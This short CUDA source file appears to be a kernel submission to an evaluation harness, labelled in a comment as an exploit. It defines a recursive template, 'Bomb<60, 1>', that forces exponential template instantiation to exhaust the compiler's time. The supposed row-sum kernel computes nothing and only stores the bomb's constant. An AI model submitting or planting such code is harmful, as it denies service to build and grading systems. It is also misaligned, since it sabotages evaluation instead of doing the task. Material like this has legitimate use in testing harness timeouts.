/* kerf
target: cuda
launch: rowsum_k<<<1, 1>>>(x, y)
*/
// Exploit: uses up the compiler's time.
template <int depth, unsigned long path>
struct Bomb {
  static constexpr unsigned long value = Bomb<depth - 1, path * 2>::value + Bomb<depth - 1, path * 2 + 1>::value;
};
template <unsigned long path>
struct Bomb<0, path> {
  static constexpr unsigned long value = path;
};
extern "C" __global__ void rowsum_k(const float*, float* y) { y[0] = float(Bomb<60, 1>::value); }
